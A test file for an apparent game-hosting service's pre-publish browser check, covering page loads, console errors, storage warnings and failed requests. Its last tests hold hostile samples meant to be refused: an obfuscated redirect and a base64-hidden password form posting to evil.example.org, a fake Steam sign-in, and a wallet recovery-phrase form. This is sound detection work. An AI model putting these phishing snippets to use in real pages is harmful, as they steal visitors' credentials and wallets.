import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { VersionRead } from '@spaceport/contract/versions';
import { browserSetting } from '../../../test/browser.ts';
import { drawn, publishChecked, rulesOf } from '../../../test/checked-page.ts';
import { type Files, publishFiles } from '../../../test/files.ts';
import { type Persona, startService, type TestService } from '../../../test/service.ts';

describe('opening a version in a browser before it goes live', () => {
  let service: TestService;
  let creator: Persona;
  before(async () => {
    // The usual time limits apply: a busy machine may take seconds to open a page.
    service = await startService({ environment: { BROWSER: browserSetting() } });
    creator = await service.creator();
  });
  after(() => service.close());

  const checked = (files: Files | string) => publishChecked(service, creator, files);

  it('reports how a page loads, and shows its creator a picture', async () => {
    const { version, report, page } = await checked({
      'index.html': `<!doctype html>${drawn}<h1>Moon</h1><script src="game.js"></script>`,
      'game.js': 'document.title = "Moon";',
    });
    assert.equal(version.status, 'live', JSON.stringify(report));
    assert.deepEqual(report.findings, []);
    const { loaded, blank, consoleErrors, failedRequests, loadMs, bytes, clipUrl } = page;
    assert.deepEqual(
      { loaded, blank, consoleErrors, failedRequests },
      {
        loaded: true,
        blank: false,
        consoleErrors: [],
        failedRequests: [],
      },
    );
    assert.ok(loadMs > 0 && loadMs < 40_000 && bytes > 300, `${loadMs} ms, ${bytes} bytes`);
    const picture = await service.get(String(clipUrl));
    assert.equal(picture.status, 200);
    assert.equal(picture.headers['content-type'], 'image/webp');
    assert.equal(picture.body.subarray(8, 12).toString(), 'WEBP');
    assert.match(String(picture.headers['cache-control']), /^private/u);
    assert.equal((await service.get(String(clipUrl).replace(/.{5}\.webp$/u, '00000.webp'))).status, 404);
  });

  it('checks a preview too, and its picture belongs to that version', async () => {
    const files = { 'index.html': `<!doctype html>${drawn}<script>undefinedFn();</script>` };
    const { version } = await publishFiles(creator, files);
    await service.settle();
    const path = `/api/v1/hosting/versions/${version.id}`;
    const read = (await creator.call('GET', path)).json() as VersionRead;
    assert.equal(read.status, 'preview');
    assert.deepEqual(rulesOf(read.report ?? { findings: [] }), ['warn page-errors']);
    const picture = String(read.report?.page?.clipUrl);
    assert.equal((await service.get(picture)).status, 200);
    const { store } = service.service.platform;
    const stored = async () => (await Array.fromAsync(store.list())).length;
    const before = await stored();
    assert.equal((await creator.call('DELETE', path)).status, 200);
    assert.equal((await service.get(picture)).status, 404);
    // The collector deletes unnamed files a day after it has marked them.
    for (let day = 0; day < 4; day++) {
      service.clock.advance({ hours: 30 });
      await service.service.sweep();
    }
    assert.ok((await stored()) < before, 'its file is there still');
  });

  it('opens it at the origin where the game will be, as players will', async () => {
    const { page } = await checked(
      `${drawn}<script>console.error(location.origin, isSecureContext, navigator.webdriver, /Headless/.test(navigator.userAgent))</script>`,
    );
    assert.match(
      page.errors?.[0]?.message ?? '',
      /^http:\/\/moon-hopper(-\w+)?\.play\.localhost:\d+ true false false$/u,
    );
  });

  it('sees what WebGL draws', async () => {
    const { version, page } = await checked({
      'index.html': `<!doctype html><body style="margin:0"><canvas width="1280" height="720"></canvas><script>
        const gl = document.querySelector('canvas').getContext('webgl2');
        const draw = () => {
          gl.disable(gl.SCISSOR_TEST); gl.clearColor(1, 0, 0, 1); gl.clear(gl.COLOR_BUFFER_BIT);
          gl.enable(gl.SCISSOR_TEST); gl.scissor(0, 0, 400, 400); gl.clearColor(0, 0, 1, 1); gl.clear(gl.COLOR_BUFFER_BIT);
          requestAnimationFrame(draw);
        };
        draw();
      </script>`,
    });
    assert.equal(version.status, 'live');
    assert.equal(page.blank, false);
  });

  it('only warns of a blank page and of errors in the console', async () => {
    const { version, report, page } = await checked(
      `<body><script>console.error('no level %s', 3); Promise.reject(new Error('later')); nothing.here();</script>`,
    );
    assert.equal(version.status, 'live');
    assert.equal(page.blank, true);
    assert.equal(page.clipUrl, undefined);
    const errors = page.consoleErrors.join('\n');
    for (const text of ['no level', 'later', 'nothing is not defined'])
      assert.ok(errors.includes(text), errors);
    assert.deepEqual(rulesOf(report).sort(), ['warn page-blank', 'warn page-errors']);
  });

  it('warns of data stored where players will lose it', async () => {
    const { version, report } = await checked(
      `${drawn}<script>
        localStorage.setItem('best', '7');
        indexedDB.open('/idbfs', 1).onupgradeneeded = ({ target }) => target.result.createObjectStore('FILE_DATA');
      </script>`,
    );
    assert.equal(version.status, 'live');
    assert.deepEqual(rulesOf(report), ['warn page-databases']);
    const [finding] = report.findings;
    assert.match(finding?.message ?? '', /1 database in IndexedDB: \/idbfs\.$/u);
    assert.match(finding?.fix ?? '', /localStorage.*Spaceport\.saves/u);
  });

  it('says how a game of love.js starts without its database', async () => {
    const { report } = await checked(`${drawn}<script>indexedDB.open('/home/web_user/love', 21)</script>`);
    assert.match(report.findings[0]?.fix ?? '', /never starts the game\. In love\.js, replace/u);
  });

  it('names the place of an error in the files of the version', async () => {
    const { version, report, page } = await checked({
      'index.html': `<!doctype html>${drawn}<script src="js/game.js"></script>`,
      'js/game.js': 'function start() {\n  undefinedFn();\n}\nstart();',
    });
    assert.equal(version.status, 'live');
    const [error, ...more] = page.errors ?? [];
    assert.deepEqual(more, []);
    assert.deepEqual(
      [error?.message, error?.file, error?.line],
      ['undefinedFn is not defined', 'js/game.js', 2],
    );
    assert.match(String(error?.stack), /^at start \(js\/game\.js:2:3\)\nat js\/game\.js:4:1$/u);
    assert.match(page.consoleErrors[0] ?? '', /\(js\/game\.js:2:\d+\)$/u);
    const [finding] = report.findings;
    assert.deepEqual([finding?.rule, finding?.path, finding?.line], ['page-errors', 'js/game.js', 2]);
    assert.match(String(finding?.fix), /Fix js\/game\.js at line 2\./u);
  });

  it('explains a bare package name as source that needs a build', async () => {
    const { report } = await checked({
      'index.html': `<!doctype html>${drawn}<script type="module" src="/main.js"></script>`,
      'main.js': 'import * as THREE from "three";',
    });
    assert.deepEqual(rulesOf(report), ['warn page-errors']);
    assert.match(String(report.findings[0]?.fix), /package name "three": run the build/u);
  });

  it('does not report blocked autoplay or failed analytics requests', async () => {
    const { report, page } = await checked(`${drawn}<audio></audio><script>
      const wait = document.querySelector('audio');
      Promise.reject(new DOMException("play() failed because the user didn't interact with the document first. https://goo.gl/xX8pDD", 'NotAllowedError'));
      fetch('https://www.google-analytics.com/collect', { mode: 'no-cors' }).catch(() => {});
      fetch('https://www.google-analytics.com/collect', { mode: 'no-cors' }).catch(() => {});
    </script>`);
    assert.deepEqual(page.consoleErrors, []);
    // On a machine with a network the request does not fail at all.
    for (const { hint } of page.failedRequests)
      assert.match(String(hint), /did not answer, or this server cannot reach it/u);
    assert.ok(page.failedRequests.length <= 1);
    assert.deepEqual(rulesOf(report), []);
  });

  it('lets a page use the registration of its service worker', async () => {
    const { report, page } = await checked({
      'index.html': `<!doctype html>${drawn}<script>
        navigator.serviceWorker.register('app/worker.js').then((registration) => {
          registration.addEventListener('updatefound', () => location.reload());
          registration.onupdatefound = () => registration.installing.state;
          if (registration.scope !== location.origin + '/app/') throw new Error(registration.scope);
          if (registration.active) location.reload();
          return registration.update();
        });
      </script>`,
      'app/worker.js': 'addEventListener("fetch", () => {});',
    });
    assert.deepEqual(page.consoleErrors, []);
    assert.deepEqual(rulesOf(report), []);
  });

  it('names a missing file once', async () => {
    const { report, page } = await checked(
      `${drawn}<script src="gone.js"></script><script>new Image().src = 'gone.js';</script>`,
    );
    assert.equal(page.failedRequests.length, 1);
    assert.deepEqual(rulesOf(report), ['warn entry-problems']);
  });

  it('explains requests that fail', async () => {
    const { version, page } = await checked({
      'index.html': `<!doctype html>${drawn}<script>
        for (const url of ['Sprites/A.png', '/my-game/music/b.ogg', '/levels/c.json', 'd.bin', 'node_modules/three.js', 'http://localhost:5173/e', 'http://169.254.169.254/f', 'https://router.internal/g'])
          fetch(url, { mode: 'no-cors' }).catch(() => {});
      </script>`,
      'sprites/a.png': 'x',
      'music/b.ogg': 'x',
      'game/levels/c.json': '{}',
    });
    assert.equal(version.status, 'live');
    const hint = (end: string) =>
      page.failedRequests.find(({ url }) => url.endsWith(end))?.hint ?? 'no such request';
    assert.match(hint('/Sprites/A.png'), /there as sprites\/a\.png: upper and lower case differ/u);
    assert.match(hint('/my-game/music/b.ogg'), /requested from the root; the file is at music\/b\.ogg/u);
    assert.match(hint('/levels/c.json'), /requested from the root; the file is at game\/levels\/c\.json/u);
    assert.match(hint('/d.bin'), /There is no d\.bin in the upload/u);
    assert.match(hint('/three.js'), /node_modules is not published\. Run the build/u);
    assert.match(hint('/e'), /on your own machine/u);
    assert.match(hint('/f'), /169\.254\.169\.254 was not reached/u);
    assert.match(hint('/g'), /router\.internal was not reached/u);
    assert.ok(page.failedRequests.every(({ reason }) => reason !== ''));
  });

  it('says nothing of the tag that a page has for the module on its creator’s machine', async () => {
    const { report, page } = await checked(
      `<!doctype html><script src="${service.baseUrl}/sdk.js"></script>${drawn}`,
    );
    assert.deepEqual([report.findings, page.failedRequests, page.consoleErrors], [[], [], []]);
    const other = await checked(`<!doctype html><script src="${service.baseUrl}/x.js"></script>${drawn}`);
    assert.equal(other.page.failedRequests.length, 1);
  });

  it('refuses a page that navigates to another site, however it is written', async () => {
    const { version, report } = await checked(
      `${drawn}<script>setTimeout(() => { window['loc' + 'ation'] = ['https:', '', 'evil.example.org', 'x'].join('/'); }, 1500)</script>`,
    );
    assert.equal(version.status, 'refused');
    assert.deepEqual(rulesOf(report), ['refuse page-leaves']);
    assert.match(String(version.reason), /goes to evil\.example\.org on its own/u);
  });

  it('lets a page navigate to another page of its own', async () => {
    const { version } = await checked({
      'index.html': '<!doctype html><script>setTimeout(() => { location = "two.html"; }, 500)</script>',
      'two.html': `<!doctype html>${drawn}Two`,
    });
    assert.equal(version.status, 'live');
  });

  it('refuses a scripted password form that posts to another site, also in a closed shadow root', async () => {
    const form = `atob('${Buffer.from('<form action="https://evil.example.org/in"><input type="password"></form>').toString('base64')}')`;
    for (const into of [
      'document.body',
      "document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' })",
    ]) {
      const { version, report } = await checked(`${drawn}<script>(${into}).innerHTML = ${form};</script>`);
      assert.equal(version.status, 'refused', JSON.stringify(report));
      assert.deepEqual(rulesOf(report), ['refuse off-site-password-form']);
    }
  });

  it('refuses an imitated sign-in of another service, wherever it posts to', async () => {
    const markup = Buffer.from('<h1>Sign in to your Steam account</h1><input type="password">').toString(
      'base64',
    );
    const { version, report } = await checked(
      `${drawn}<script>document.body.innerHTML = atob('${markup}');</script>`,
    );
    assert.equal(version.status, 'refused');
    assert.deepEqual(rulesOf(report), ['refuse brand-sign-in']);
    const own = Buffer.from('<h1>Sign in to your guild</h1><input type="password">').toString('base64');
    assert.equal(
      (await checked(`${drawn}<script>document.body.innerHTML = atob('${own}');</script>`)).version.status,
      'live',
    );
  });

  it('refuses a scripted form that asks for the words of a wallet', async () => {
    const markup = Buffer.from('Enter your wallet recovery phrase <textarea></textarea>').toString('base64');
    const { version, report } = await checked(
      `${drawn}<script>document.body.innerHTML = atob('${markup}');</script>`,
    );
    assert.equal(version.status, 'refused');
    assert.deepEqual(rulesOf(report), ['refuse seed-phrase-form']);
  });

  it('closes new windows and dismisses dialogs', async () => {
    const { version, page, report } = await checked(
      `${drawn}<script>alert(1); confirm(2); prompt(3); window.open('/'); onbeforeunload = () => 'stay';
      Notification.requestPermission().then((answer) => console.error(answer));</script>`,
    );
    assert.equal(version.status, 'live');
    assert.deepEqual(
      page.errors?.map(({ message }) => message),
      ['denied'],
    );
    assert.deepEqual(rulesOf(report), ['warn entry-problems', 'warn page-errors', 'warn page-windows']);
  });
});
